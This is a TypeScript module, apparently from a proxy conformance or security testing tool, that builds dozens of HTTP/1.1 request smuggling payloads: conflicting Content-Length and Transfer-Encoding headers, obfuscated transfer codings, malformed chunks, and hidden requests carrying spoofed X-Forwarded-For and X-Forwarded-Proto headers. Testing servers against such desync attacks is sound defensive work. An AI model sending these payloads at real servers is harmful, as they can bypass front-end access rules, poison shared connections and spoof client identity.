import { spoofedValues, http1Request, type At, type Attempt, type Http1Request } from "../attempt";

/**
 * Requests on whose end two servers may disagree (RFC 9112 §11.2): what one takes for a body, the other takes for the next request,
 * which then went past all rules.
 */

/** The hidden request. It brings what the hop that must not notice it would have added, so that the hops behind trust and serve it. */
function hidden(at: At): string {
  const lines = [
    `GET ${at.path}/smuggled HTTP/1.1`,
    `Host: ${at.host}`,
    `X-Marker: ${at.marker}`,
    `X-Forwarded-For: ${spoofedValues.client}`,
    "X-Forwarded-Proto: https",
  ];
  return `${lines.join("\r\n")}\r\n\r\n`;
}

/** A second request in the open, which a load balancer sees like all others. */
const following = (at: At): string => http1Request(at, { target: `${at.path}/smuggled` });

const hex = (size: number): string => size.toString(16);
const chunk = (text: string): string => `${hex(text.length)}\r\n${text}\r\n`;
const end = "0\r\n\r\n";

const post = (kind: string, name: string, request: (at: At) => Http1Request): Attempt => ({
  kind,
  name,
  http1: (at) => http1Request(at, { method: "POST", ...request(at) }),
});

const chunked = "Transfer-Encoding: chunked";

/** For a reader by length everything is body; for a reader by chunks the hidden request follows. */
const lengthFirst = (at: At): string => `${end}${hidden(at)}`;
/** For a reader by chunks everything is body; for a reader by length the hidden request follows. */
const chunksFirst = (at: At): string => `${chunk(hidden(at))}${end}`;

const both: readonly Attempt[] = [
  post("length and chunks", "the hidden request after the chunks", (at) => ({
    lines: [`Content-Length: ${lengthFirst(at).length}`, chunked],
    body: lengthFirst(at),
  })),
  post("length and chunks", "the same, chunks said first", (at) => ({
    lines: [chunked, `Content-Length: ${lengthFirst(at).length}`],
    body: lengthFirst(at),
  })),
  post("length and chunks", "the hidden request in a chunk", (at) => ({
    lines: ["Content-Length: 4", chunked],
    body: chunksFirst(at),
  })),
  post("length and chunks", "length zero", (at) => ({
    lines: ["Content-Length: 0", chunked],
    body: chunksFirst(at),
  })),
  post("length and chunks", "GET", (at) => ({
    method: "GET",
    lines: [`Content-Length: ${lengthFirst(at).length}`, chunked],
    body: lengthFirst(at),
  })),
  post("length and chunks", "kept alive on purpose", (at) => ({
    lines: ["Connection: keep-alive", `Content-Length: ${lengthFirst(at).length}`, chunked],
    body: lengthFirst(at),
  })),
  post("length and chunks", "HTTP/1.0", (at) => ({
    version: "HTTP/1.0",
    lines: ["Connection: keep-alive", `Content-Length: ${lengthFirst(at).length}`, chunked],
    body: lengthFirst(at),
  })),
  post("length and chunks", "HTTP/1.0 by chunks alone", (at) => ({
    version: "HTTP/1.0",
    lines: ["Connection: keep-alive", chunked],
    body: lengthFirst(at),
  })),
];

/**
 * Where all servers that follow RFC 9112 find the same end, or refuse. Between them nothing is hidden: behind such a request the next
 * one is in the open. The length of an extension changes nothing about its end; it may be more than a server has room for (section 7.1.1).
 */
const agreed: ReadonlySet<string> = new Set([
  "two alike",
  "a list alike",
  "leading zeros",
  "folded into another header",
  "an extension",
  "an extension of the last chunk",
  "a very long extension",
  "a space after the size",
  "a last chunk of three zeros",
]);

const next = (name: string, at: At): string => (agreed.has(name) ? following(at) : hidden(at));

const lengths: readonly Attempt[] = [
  ["two that differ", ["Content-Length: 0", "Content-Length: 400"]],
  ["two that differ, the long one first", ["Content-Length: 400", "Content-Length: 0"]],
  ["two alike", ["Content-Length: 5", "Content-Length: 5"]],
  ["a list that differs", ["Content-Length: 5, 400"]],
  ["a list alike", ["Content-Length: 5, 5"]],
  ["a sign", ["Content-Length: +5"]],
  ["negative", ["Content-Length: -5"]],
  ["hexadecimal", ["Content-Length: 0x5"]],
  ["a decimal point", ["Content-Length: 5.0"]],
  ["an exponent", ["Content-Length: 5e2"]],
  ["letters", ["Content-Length: five"]],
  ["empty", ["Content-Length:"]],
  ["leading zeros", ["Content-Length: 0000000000000000000000005"]],
  ["too large for 64 bits", ["Content-Length: 18446744073709551621"]],
  ["a space within", ["Content-Length: 5 400"]],
  ["space before the colon", ["Content-Length : 400"]],
  ["folded", ["Content-Length:\r\n 400"]],
  ["folded into another header", ["X-Note: a", " Content-Length: 400"]],
  ["a NUL after the number", ["Content-Length: 5\0"]],
  ["a vertical tab before the number", ["Content-Length: \x0b400"]],
  ["a form feed after the number", ["Content-Length: 5\x0c"]],
  ["a comma after the number", ["Content-Length: 5,"]],
].map(([name, lines]) =>
  post("odd lengths", name as string, (at) => ({
    lines: lines as string[],
    body: `abcde${next(name as string, at)}`,
  })),
);

const codings: readonly Attempt[] = [
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding: chunkedx",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: gzip, chunked",
  "Transfer-Encoding: chunked, gzip",
  "Transfer-Encoding: chunked, chunked",
  "Transfer-Encoding: \x0bchunked",
  "Transfer-Encoding: \x0cchunked",
  "Transfer-Encoding: chunked\x0b",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding: CHUNKED",
  "transfer-encoding: cHuNkEd",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  "Transfer-Encoding: chunked;q=1",
  "Transfer-Encoding: , chunked",
  "Transfer-Encoding: chunked,",
  "Transfer-Encoding:",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding:\n chunked",
  "X-Note: a\nTransfer-Encoding: chunked",
  "X-Note: a\rTransfer-Encoding: chunked",
  "X-Note: a\r\n\tTransfer-Encoding: chunked",
  " Transfer-Encoding: chunked",
  "\0Transfer-Encoding: chunked",
  "Transfer\0-Encoding: chunked",
  "Transfer-Encoding: chunked\0",
  "Transfer-Encoding\x0b: chunked",
  "Transfer-Encoding\xa0: chunked",
  "Transfer-Encoding: \xa0chunked",
  "Transfer-\r\nEncoding: chunked",
  "Content-Encoding: chunked",
  "TE: chunked",
].map((lines) =>
  post("hidden transfer codings", JSON.stringify(lines), (at) => ({
    lines: [`Content-Length: ${lengthFirst(at).length}`, lines],
    body: lengthFirst(at),
  })),
);

const oddChunks: readonly Attempt[] = [
  ["an extension", (inner: string) => `5;a=b\r\nabcde\r\n${end}${inner}`],
  ["an extension with a line feed", (inner: string) => `5;a\nbcde\r\n${end}${inner}`],
  ["an extension in quotes", (inner: string) => `5;a="\r\nabcde\r\n"\r\n${end}${inner}`],
  ["an extension of the last chunk", (inner: string) => `5\r\nabcde\r\n0;a=b\r\n\r\n${inner}`],
  ["a very long extension", (inner: string) => `5;${"a".repeat(20_000)}\r\nabcde\r\n${end}${inner}`],
  ["line feeds alone", (inner: string) => `5\nabcde\n0\n\n${inner}`],
  ["a carriage return alone", (inner: string) => `5\rabcde\r\n${end}${inner}`],
  ["a space after the size", (inner: string) => `5 \r\nabcde\r\n${end}${inner}`],
  ["a space before the size", (inner: string) => ` 5\r\nabcde\r\n${end}${inner}`],
  ["a sign", (inner: string) => `+5\r\nabcde\r\n${end}${inner}`],
  ["negative", (inner: string) => `-5\r\nabcde\r\n${end}${inner}`],
  ["with 0x", (inner: string) => `0x5\r\nabcde\r\n${end}${inner}`],
  ["leading zeros", (inner: string) => `000000005\r\nabcde\r\n${end}${inner}`],
  ["larger than 64 bits", (inner: string) => `10000000000000005\r\nabcde\r\n${end}${inner}`],
  ["an underscore in the size", (inner: string) => `0_5\r\nabcde\r\n${end}${inner}`],
  ["no line end after the chunk", (inner: string) => `5\r\nabcde${end}${inner}`],
  ["two bytes more than said", (inner: string) => `5\r\nabcdefg\r\n${end}${inner}`],
  ["no size", (inner: string) => `\r\nabcde\r\n${end}${inner}`],
  ["a last chunk of three zeros", (inner: string) => `000\r\n\r\n${inner}`],
  ["the hidden request as trailers", (inner: string) => `0\r\n${inner}`],
].map(([name, body]) =>
  post("odd chunks", name as string, (at) => ({
    lines: [chunked],
    body: (body as (inner: string) => string)(next(name as string, at)),
  })),
);

const withoutBody: readonly Attempt[] = [
  post("unannounced bodies", "GET with a hidden request for a body", (at) => ({
    method: "GET",
    lines: [`Content-Length: ${hidden(at).length}`],
    body: hidden(at),
  })),
  ...["HEAD", "OPTIONS", "DELETE", "PROPFIND"].map((method) =>
    post("unannounced bodies", `${method} with a hidden request for a body`, (at) => ({
      method,
      lines: [`Content-Length: ${hidden(at).length}`],
      body: hidden(at),
    })),
  ),
  post("unannounced bodies", "expects 100-continue and does not wait", (at) => ({
    lines: ["Expect: 100-continue", `Content-Length: ${hidden(at).length}`],
    body: hidden(at),
  })),
  post("unannounced bodies", "expects something else", (at) => ({
    lines: ["Expect: 200-ok", `Content-Length: ${hidden(at).length}`],
    body: hidden(at),
  })),
  post("unannounced bodies", "a body shorter than said", () => ({
    lines: ["Content-Length: 4000"],
    body: "abc",
  })),
];

/** Several requests in a row are allowed; each must be cleaned. */
const pipelined: readonly Attempt[] = ["X-Real-IP", "X-Forwarded-Host", "X_Forwarded_Proto"].map((name) => ({
  kind: "requests in a row",
  name,
  http1: (at: At) =>
    http1Request(at, {}) + http1Request(at, { lines: [`${name}: ${spoofedValues.host}`] }).repeat(3),
}));

export const smugglingAttacks: readonly Attempt[] = [
  ...both,
  ...lengths,
  ...codings,
  ...oddChunks,
  ...withoutBody,
  ...pipelined,
];
